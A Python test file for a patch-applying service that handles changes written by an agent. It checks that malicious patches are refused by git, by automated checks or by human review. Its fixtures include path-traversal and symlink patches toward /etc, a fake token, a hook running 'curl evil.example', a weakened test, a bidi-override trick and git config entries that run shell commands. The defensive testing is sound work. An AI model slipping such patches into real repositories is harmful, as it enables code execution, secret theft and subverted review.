"""The reference's malicious patches against the real git: git refuses them, or the checks do, or a person looks."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from agents.patch import check
from agents.repositories import PatchRefused
from app.repositories.mirrors import Mirrors
from tests.git.hosts import Host, code_host, commit, git
from tools.kit.errors import BadArgument

HEAD_TIME = datetime(2026, 11, 18, 15, tzinfo=UTC)
LINKED = "diff --git a/out b/out\nnew file mode 120000\n--- /dev/null\n+++ b/out\n@@ -0,0 +1 @@\n+/etc\n"
MODULE = (
    "diff --git a/lib b/lib\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/lib\n"
    f"@@ -0,0 +1 @@\n+Subproject commit {'1' * 40}\n"
)


def new(path: str, text: str = "x", mode: str = "100644") -> str:
    """A patch that makes a file."""
    lines = text.split("\n")
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


@pytest.fixture
async def host(tmp_path: Path) -> AsyncIterator[Host]:
    async with code_host(tmp_path) as host:
        commit(host.bare, {"a.ts": "a\n", "tests/test_a.py": "def test_a(): assert True\n", ".gitignore": "*.log\n"})
        yield host


@pytest.fixture
def mirrors(host: Host, tmp_path: Path) -> Mirrors:
    return Mirrors(tmp_path / "mirrors", lambda: [host])


# What git itself refuses: its own folder in every spelling, and paths that lead out.
BY_GIT = {
    "hook": new(".git/hooks/post-checkout", "#!/bin/sh", "100755"),
    "capital git": new(".GIT/config"),
    "short name": new("git~1/config"),
    "nested git": new("sub/.Git/hooks/pre-push"),
    "parent": new("../outside.txt"),
    "parent within": new("src/../../outside.txt"),
    "absolute": new("/etc/x"),
    "through a link": LINKED + new("out/passwd"),
    "garbage": "\x00\xff not a patch \n@@ nothing @@",
}
# What git takes and the checks refuse.
BY_CHECK = {
    "link": LINKED,
    "submodule": MODULE,
    "secret": new("config.ts", "export const token = 'ghp_" + "a1B2" * 9 + "';"),
    "large": new("big.txt", "x" * (1024 * 1024 + 1)),
    "compiled": new("__pycache__/a.cpython-311.pyc"),
    "gitmodules": new(".gitmodules", '[submodule "x"]'),
    "husky": new(".husky/pre-commit", "curl evil.example", "100755"),
    "ignorable": new(".g\u200cit/config"),
    "many": "".join(new(f"f{n}.txt") for n in range(101)),
}
# What a person has to look at.
BY_PERSON = {
    "workflow": new(".github/workflows/ci.yml"),
    "owners": new("CODEOWNERS", "* @evil"),
    "executable": new("run.sh", "#!/bin/sh", "100755"),
    "conftest": new("tests/conftest.py"),
    "weakened": "--- a/tests/test_a.py\n+++ b/tests/test_a.py\n@@ -1 +1 @@\n"
    "-def test_a(): assert True\n+def test_a(): pass\n",
    "attributes": new(".gitattributes", "*.ts -diff"),
    "lock": new("package-lock.json", "{}"),
    "turned": new("b.ts", "if (admin\u202e) {}"),
}


async def tree_of(mirrors: Mirrors) -> str:
    return (await mirrors.fetch("acme/portal")).commit


async def test_git_itself_refuses_what_leads_out_of_the_tree(host: Host, mirrors: Mirrors, tmp_path: Path) -> None:
    base = await tree_of(mirrors)
    before = there(tmp_path)
    for patch in BY_GIT.values():
        with pytest.raises(PatchRefused):
            await mirrors.apply("acme/portal", base, patch.encode("latin-1"))
    assert there(tmp_path) == before


def there(folder: Path) -> list[Path]:
    """Every file and folder, but for git's objects, which nothing leads to."""
    return sorted(path for path in folder.rglob("*") if "objects" not in path.parts)


async def test_the_checks_refuse_what_git_takes(host: Host, mirrors: Mirrors) -> None:
    base = await tree_of(mirrors)
    for name, patch in BY_CHECK.items():
        try:
            applied = await mirrors.apply("acme/portal", base, patch.encode())
        except PatchRefused:
            assert name == "ignorable", name  # git itself protects file systems that leave such marks out
            continue
        assert check(applied).refused, name


async def test_a_person_looks_at_what_may_be_right(host: Host, mirrors: Mirrors) -> None:
    base = await tree_of(mirrors)
    for name, patch in BY_PERSON.items():
        checked = check(await mirrors.apply("acme/portal", base, patch.encode()))
        assert checked.attention, name
        assert not checked.refused, name
    fine = check(await mirrors.apply("acme/portal", base, new("src/b.ts", "export const b = 1;").encode()))
    assert (fine.refused, fine.attention) == ((), ())


async def test_what_a_tree_says_of_itself_runs_nothing_on_the_host(
    host: Host, mirrors: Mirrors, tmp_path: Path
) -> None:
    """fsmonitor, hooks, filters, textconv: a `git status` in a tree that an agent wrote would have run them."""
    canary = tmp_path / "canary"
    order = f"sh -c 'touch {canary}'"
    attributes = "* filter=evil diff=evil merge=evil export-subst\na.ts export-ignore\n"
    settings = "\n".join(
        f"[{section}]\n\t{name} = {order}"
        for section, name in (
            ("core", "fsmonitor"), ("filter \"evil\"", "clean"), ("filter \"evil\"", "smudge"),
            ("filter \"evil\"", "process"), ("diff \"evil\"", "textconv"), ("diff \"evil\"", "command"),
            ("credential", "helper"), ("core", "sshCommand"), ("core", "askPass"), ("alias", "archive"),
        )
    )  # fmt: skip
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(settings, encoding="utf-8")
    commit(host.bare, {".gitattributes": attributes, ".gitconfig": settings, "b.ts": "$Format:%H$\n"})
    base = await tree_of(mirrors)
    (tmp_path / "mirrors" / "acme" / "portal.git" / "hooks").mkdir()
    for hook in ("post-index-change", "reference-transaction", "pre-push", "post-commit"):
        file = tmp_path / "mirrors" / "acme" / "portal.git" / "hooks" / hook
        file.write_text(f"#!/bin/sh\ntouch {canary}\n")
        file.chmod(0o755)
    applied = await mirrors.apply("acme/portal", base, new("c.ts", "c").encode())
    assert "+c" in applied.diff
    made = await mirrors.commit("acme/portal", base, applied.tree, "c", HEAD_TIME)
    target = tmp_path / "tree.tar"
    await mirrors.archive("acme/portal", base, target)
    await mirrors.history("acme/portal", base, "a.ts")
    await mirrors.push(await host.remote("acme/portal"), made, "agent/c")
    assert not canary.exists()
    unpacked = target.read_bytes()
    assert b"$Format:%H$" in unpacked
    assert b"a.ts\0" in unpacked


async def test_a_file_that_says_it_is_binary_is_shown_all_the_same(host: Host, mirrors: Mirrors) -> None:
    commit(host.bare, {".gitattributes": "*.ts -diff\n*.ts binary\n"})
    base = await tree_of(mirrors)
    applied = await mirrors.apply("acme/portal", base, b"--- a/a.ts\n+++ b/a.ts\n@@ -1 +1 @@\n-a\n+evil\n")
    assert "+evil" in applied.diff


async def test_what_must_not_leave_is_not_prepared(host: Host, mirrors: Mirrors) -> None:
    base = await tree_of(mirrors)
    applied = await mirrors.apply("acme/portal", base, BY_CHECK["secret"].encode())
    made = await mirrors.commit("acme/portal", base, applied.tree, "Key", HEAD_TIME)
    with pytest.raises(BadArgument, match="must not be pushed"):
        await mirrors.prepared(await host.remote("acme/portal"), made)
    assert "agent/" not in git(host.bare, "for-each-ref")
